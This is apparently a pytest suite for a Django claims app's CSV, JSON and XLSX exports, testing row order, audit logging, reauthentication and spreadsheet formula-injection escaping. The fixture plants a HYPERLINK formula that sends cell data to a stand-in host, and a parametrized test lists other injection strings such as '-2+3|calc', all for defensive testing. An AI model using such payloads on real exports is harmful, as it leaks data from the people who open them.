"""Lists to take along: what a program reads back is what the page shows, and a spreadsheet runs nothing of it."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any
from urllib.parse import parse_qs, urlsplit
from xml.etree import ElementTree
from zoneinfo import ZoneInfo

import pytest
from django.test import Client
from django.urls import reverse

from claims.models import Claim, Coverage
from claims.services.figures import refresh
from claims.views import boards, tables
from claims.views.tables import Table, as_csv, as_json, as_xlsx, harmless
from documentation.models import AuditEvent, Patient
from tests import factories
from tests.claims import answered as a

HALF_YEAR = "from=2026-06-01&to=2026-11-30"
LIST = "/dashboard/initial_denial"
EVIL = '=HYPERLINK("http://example.org?"&A1,"x")'


@pytest.fixture
def denied(db: None) -> list[Claim]:
    """Two denied claims of a plan and a patient whose names a spreadsheet would run."""
    rows = [a.claim(date(2026, 8, day), of="Summit, “Dental”") for day in (3, 4)]
    for row in rows:
        a.sent(row, date(2026, 8, 10))
        a.denial(a.answer(row, date(2026, 8, 20), "denied", denied="850.00"), "images", "850.00")
    Coverage.objects.filter(claims__in=rows).update(plan_name=EVIL)
    Patient.objects.filter(encounters__claims=rows[0]).update(last_name="+1-555 Doe")
    for row in rows:
        refresh(row)
    return rows


def body(answer: Any) -> bytes:
    return b"".join(answer.streaming_content)


def packed(table: Table) -> bytes:
    with as_xlsx(table) as file:
        return bytes(file.read())


def sheet_of(data: bytes) -> list[list[str]]:
    """The cells of the only sheet of a workbook as it stores them; a formula fails."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        xml = book.read("xl/worksheets/sheet1.xml")
        strings = book.read("xl/sharedStrings.xml") if "xl/sharedStrings.xml" in book.namelist() else b"<sst/>"
    space = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    shared = ["".join(t.text or "" for t in one.iter(f"{space}t")) for one in ElementTree.fromstring(strings)]
    root = ElementTree.fromstring(xml)
    assert not list(root.iter(f"{space}f"))
    rows = []
    for row in root.iter(f"{space}row"):
        cells = []
        for cell in row.iter(f"{space}c"):
            value = cell.find(f"{space}v")
            inline = "".join(t.text or "" for t in cell.iter(f"{space}t"))
            text = inline or (value.text if value is not None else "") or ""
            cells.append(shared[int(text)] if cell.get("t") == "s" else text)
        rows.append(cells)
    return rows


def test_the_same_rows_come_in_each_form_and_in_the_order_of_the_page(person: Any, denied: list[Claim]) -> None:
    manager = person("manager")
    page = manager.get(f"{LIST}/?{HALF_YEAR}")
    numbers = re.findall(r'row-link" href="[^"]*">(C\d+)', page.content.decode())
    assert sorted(numbers) == sorted(row.number for row in denied)
    lines = list(csv.DictReader(io.StringIO(body(manager.get(f"{LIST}/csv/?{HALF_YEAR}")).decode("utf-8-sig"))))
    things = json.loads(body(manager.get(f"{LIST}/json/?{HALF_YEAR}")))
    head, *cells = sheet_of(body(manager.get(f"{LIST}/xlsx/?{HALF_YEAR}")))
    assert [line["Claim"] for line in lines] == [t["Claim"] for t in things] == [row[0] for row in cells] == numbers
    assert list(lines[0]) == list(things[0]) == head
    assert [line["Denied first"] for line in lines] == ["850.00", "850.00"]
    assert {line["Payer"] for line in lines} == {"Summit, “Dental”"}
    # Only what a spreadsheet would run is marked as text, and only in the form that has no types.
    assert {line["Plan"] for line in lines} == {f"'{EVIL}"}
    assert {t["Plan"] for t in things} == {EVIL}
    assert {row[head.index("Plan")] for row in cells} == {EVIL}
    assert "'+1-555 Doe" in {line["Patient"] for line in lines}


def test_filters_go_along_and_who_took_it_is_recorded(person: Any, denied: list[Claim]) -> None:
    other = a.payer("Other").pk
    answer = person("manager").get(f"{LIST}/csv/?{HALF_YEAR}&payer={other}")
    assert len(body(answer).decode().splitlines()) == 1
    event = AuditEvent.objects.latest("seq")
    assert event.action == "dashboard.download"
    assert json.loads(event.detail) == {"count": 0, "figure": "initial_denial", "form": "csv"}
    assert "attachment" in answer["Content-Disposition"]


@pytest.mark.parametrize(
    "url", [f"{LIST}/exe/", "/dashboard/luck/csv/", "/worklist/table/exe/", "/claims/table/exe/", "/overrides/exe/"]
)
def test_what_does_not_exist_is_said_to(person: Any, denied: list[Claim], url: str) -> None:
    answer = person("manager").get(url)
    assert answer.status_code == 404
    assert b"There is no such figure." in answer.content or b"A list cannot be taken along so." in answer.content


def test_sendings_are_taken_along_as_sendings(person: Any, db: None) -> None:
    row = a.claim(date(2026, 8, 3), transport="rejected")
    for day in (4, 11):
        a.sent(row, date(2026, 8, day))
    lines = list(
        csv.DictReader(
            io.StringIO(body(person("manager").get(f"/dashboard/rejected/csv/?{HALF_YEAR}")).decode("utf-8-sig"))
        )
    )
    assert [(line["Claim"], line["Sent"]) for line in lines] == [(row.number, "2026-08-11"), (row.number, "2026-08-04")]


def test_the_worklist_is_taken_along_as_it_is_narrowed(person: Any, denied: list[Claim]) -> None:
    a.claim(date(2026, 9, 1))
    biller = person("biller")
    lines = list(
        csv.DictReader(io.StringIO(body(biller.get("/worklist/table/csv/?queue=denied&scope=all")).decode("utf-8-sig")))
    )
    assert sorted(line["Claim"] for line in lines) == sorted(row.number for row in denied)
    assert {(line["Queue"], line["Denied for"], line["At stake"]) for line in lines} == {
        ("Denied", "Missing image or reading", "850.00")
    }
    assert person("administrator").get("/worklist/table/csv/").status_code == 403


def test_all_claims_are_taken_along_by_status_and_payer(person: Any, denied: list[Claim]) -> None:
    other = a.claim(date(2026, 9, 1), of="Other")
    biller = person("biller")

    def rows(query: str) -> list[dict[str, str]]:
        taken = biller.get(f"/claims/table/csv/?{query}")
        return list(csv.DictReader(io.StringIO(body(taken).decode("utf-8-sig"))))

    assert [line["Claim"] for line in rows("")] == [row.number for row in (other, *reversed(denied))]
    assert {(line["Status"], line["Billed"], line["At risk"]) for line in rows("word=denied")} == {
        ("Denied", "850.00", "850.00")
    }
    assert [line["Claim"] for line in rows(f"payer={other.coverage.payer_id}&word=nonsense")] == [other.number]
    assert "/claims/table/csv/?word=denied" in biller.get("/claims/?word=denied").content.decode()


def test_a_void_claim_is_told_as_the_page_tells_it(person: Any, denied: list[Claim]) -> None:
    Claim.objects.filter(pk=denied[0].pk).update(closing="voided")
    taken = person("biller").get("/claims/table/csv/")
    lines = csv.DictReader(io.StringIO(body(taken).decode("utf-8-sig")))
    assert {line["Claim"]: line["Status"] for line in lines} == {
        denied[0].number: "Voided",
        denied[1].number: "Denied",
    }


def test_a_long_list_is_no_spreadsheet_and_says_what_to_take(
    person: Any, denied: list[Claim], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tables, "MOST_XLSX", 1)
    manager = person("manager")
    answer = manager.get(f"{LIST}/xlsx/?{HALF_YEAR}")
    assert answer.status_code == 422
    assert b"Take it as CSV, which spreadsheets open too, or narrow it." in answer.content
    assert manager.get(f"{LIST}/csv/?{HALF_YEAR}").status_code == 200


def test_the_filter_of_a_spreadsheet_ends_with_its_last_line() -> None:
    with zipfile.ZipFile(io.BytesIO(packed(Table("t", ("A", "B"), iter([(1, 2), (3, 4)]), 1)))) as book:
        assert b'<autoFilter ref="A1:B3"/>' in book.read("xl/worksheets/sheet1.xml")


def test_a_moment_is_told_by_the_clock_of_the_practice() -> None:
    at = datetime(2026, 11, 6, 11, 30, tzinfo=UTC)
    there = Table("t", ("At",), [(at,)], 1, ZoneInfo("Pacific/Kiritimati"))
    assert list(as_csv(there))[1] == "2026-11-07 01:30\r\n"
    assert json.loads("".join(as_json(there))) == [{"At": "2026-11-07 01:30"}]
    assert sheet_of(packed(there))[1] == ["2026-11-07 01:30"]


def test_an_empty_list_is_still_a_list() -> None:
    empty = Table("empty", ("Claim", "Dollars"), iter(()), 0)
    assert list(as_csv(empty)) == ["\ufeffClaim,Dollars\r\n"]
    assert json.loads("".join(as_json(empty))) == []
    assert sheet_of(packed(empty)) == [["Claim", "Dollars"]]


def test_dollars_are_numbers_in_a_spreadsheet_and_texts_elsewhere() -> None:
    def table() -> Table:
        return Table("t", ("D", "N", "Day", "None"), iter([(Decimal("-12.30"), 7, date(2026, 11, 5), None)]), 1)

    assert list(as_csv(table()))[1] == "-12.30,7,2026-11-05,\r\n"
    assert json.loads("".join(as_json(table()))) == [{"D": "-12.30", "N": 7, "Day": "2026-11-05", "None": None}]
    (_, row) = sheet_of(packed(table()))
    assert row[:3] == ["-12.3", "7", "46331"]  # 2026-11-05 as days since 1900, as spreadsheets count them


@pytest.mark.parametrize(
    "text, kept",
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2+3|calc", "'-2+3|calc"),
        ("+1 555", "'+1 555"),
        ("\t=1", "'\t=1"),
        ("\n=1", "'\n=1"),
        ("-12.30", "-12.30"),
        ("Doe", "Doe"),
        ("'quoted", "'quoted"),
        ("", ""),
    ],
)
def test_nothing_that_a_spreadsheet_would_run_is_left(text: str, kept: str) -> None:
    assert harmless(text) == kept


def test_a_list_leaves_only_after_the_password_was_given_again(denied: list[Claim]) -> None:
    user = factories.user(role="biller")
    user.set_password("a long password of Robin")
    user.save()
    client, url = Client(), "/claims/table/csv/?word=denied"
    client.force_login(user)
    asked = client.get(url)["Location"]
    assert asked.startswith(reverse("account_reauthenticate"))
    assert not AuditEvent.objects.filter(action="claim.download").exists()
    ready = client.post(
        asked, {"password": "a long password of Robin", "next": parse_qs(urlsplit(asked).query)["next"][0]}
    )
    page = client.get(ready["Location"]).content.decode()
    assert f'href="{url}" download' in page
    assert body(client.get(url)).startswith(b"\xef\xbb\xbf")


def test_the_menu_says_what_a_spreadsheet_does_not_hold() -> None:
    def said(count: int | None, **known: bool) -> list[tuple[bool, str]]:
        return [(bool(one["url"]), one["note"]) for one in tables.offered(lambda form: f"/{form}", count, **known)]

    assert said(None) == said(tables.LONG) == [(True, "")] * 3
    csv_, xlsx, json_ = said(tables.MOST_XLSX + 1)
    assert csv_ == json_ == (True, "50,001 rows, one by one")
    assert (xlsx[0], "these are 50,001" in xlsx[1]) == (False, True)
    csv_, xlsx, json_ = said(tables.MOST_XLSX + 1, is_capped=True)
    assert csv_ == (True, "more than 50,000 rows, one by one")
    assert "these are more than 50,000" in xlsx[1]
    assert said(tables.MOST_XLSX, is_capped=True)[1] == (True, "")


def test_all_claims_say_before_they_are_taken_that_a_spreadsheet_does_not_hold_them(
    denied: list[Claim], biller: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tables, "MOST_XLSX", 1)
    monkeypatch.setattr(boards, "MOST_XLSX", 1)
    assert "these are more than 1" in biller.get("/claims/").content.decode()
    assert "these are" not in biller.get("/claims/?word=denied").content.decode()
